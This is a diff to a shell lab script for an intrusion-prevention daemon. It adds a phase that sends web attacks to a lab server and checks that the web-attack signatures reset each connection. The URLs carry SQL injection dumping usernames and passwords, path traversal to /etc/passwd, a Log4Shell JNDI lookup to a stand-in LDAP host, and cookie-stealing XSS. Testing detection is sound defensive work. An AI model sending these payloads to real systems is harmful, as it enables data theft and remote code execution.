@@ -214,4 +214,31 @@ check "drops recorded in EVE (tcp 9000 and 9001)" \
   test "$(lab_net eve-count "$LAB_EVE" --event drop --dest-port 9000)" -gt 0 \
   -a "$(lab_net eve-count "$LAB_EVE" --event drop --dest-port 9001)" -gt 0
 
+pause
+
+# ------------------------------------------------------------------ phase 3
+
+heading "Phase 3: L7 inspection with the bundled web-attack signatures"
+say "rampartd also inspects HTTP (found by content, on any port) with rules/rampart-web.rules,"
+say "enforced inline (--rules-drop: the set's alert actions become drop)."
+lab_start_rampartd "$POLICY" --rules-drop "$LAB_REPO_DIR/rules/rampart-web.rules" --hs-cache "$LAB_DIR/hs" ||
+  abort "rampartd did not start with the signatures"
+step "Allowed: an ordinary request"
+expect_http_ok "http://$LAB_SRV4:8080/"
+for attack in "products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20" \
+  "download?file=..%2F..%2F..%2Fetc%2Fpasswd" \
+  "?q=%24%7Bjndi%3Aldap%3A%2F%2F198.18.0.1%2Fx%7D" \
+  "search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"; do
+  step "Attack in the URL: /$attack"
+  demo_curl "http://[$LAB_SRV6]:8080/$attack"
+  check "blocked: the connection is reset (curl exit $CURL_RC after $CURL_MS ms, expected 56 or 52)" \
+    test "$CURL_RC" -eq 56 -o "$CURL_RC" -eq 52
+done
+step "Stop rampartd: alerts and L7 counters"
+lab_stop_rampartd || fail "rampartd did not stop cleanly"
+say "  l7: $(lab_summary_get l7)"
+show_eve alert 4
+check "every attack blocked and recorded (flows_blocked $(lab_summary_get l7.flows_blocked))" \
+  test "$(lab_summary_get l7.flows_blocked)" -ge 4
+
 finish
